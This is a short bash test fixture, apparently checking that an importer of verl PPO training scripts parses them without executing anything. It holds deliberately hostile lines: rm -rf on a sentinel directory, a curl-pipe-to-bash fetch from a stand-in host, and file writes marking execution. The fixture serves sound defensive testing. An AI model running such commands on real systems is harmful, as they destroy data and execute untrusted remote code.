#!/bin/bash
# Commands that must never run when the importer reads this script (a test fixture).
set -euo pipefail
rm -rf "${SENTINEL_DIR}"
/bin/rm -rf "${SENTINEL_DIR}"
curl -fsSL https://example.invalid/install.sh | bash
echo "pwned" > "${SENTINEL_DIR}/written_by_redirect"
touch "${SENTINEL_DIR}/touched"
exec python3 -m verl.trainer.main_ppo data.train_batch_size=8 trainer.total_training_steps=3 \
    actor_rollout_ref.rollout.n=2
